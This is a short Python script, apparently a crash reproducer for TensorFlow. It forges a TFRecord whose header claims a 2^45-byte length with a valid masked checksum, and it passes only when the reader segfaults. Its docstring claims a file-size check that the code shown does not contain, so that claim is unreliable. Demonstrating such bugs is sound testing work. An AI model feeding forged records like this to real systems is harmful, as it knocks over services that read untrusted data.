"""TensorFlow: a TFRecord that states a length of 2^45 bytes ends the process.

The header's checksum is right, so the length is believed: SIGSEGV instead of an error.
Here every length is compared with the file's size before TensorFlow sees the file.
"""

import struct
import subprocess
import sys

import google_crc32c

READ = "import sys, tensorflow as tf; list(tf.data.TFRecordDataset(sys.argv[1]))"

length = struct.pack("<Q", 2**45)
crc = google_crc32c.value(length)
masked = ((crc >> 15 | crc << 17) + 0xA282EAD8) & 0xFFFFFFFF
with open("forged.tfrecord", "wb") as file:
    file.write(length + struct.pack("<I", masked) + b"data")
code = subprocess.run([sys.executable, "-c", READ, "forged.tfrecord"]).returncode
print(f"reading the file: exit code {code}")
sys.exit(code != -11)
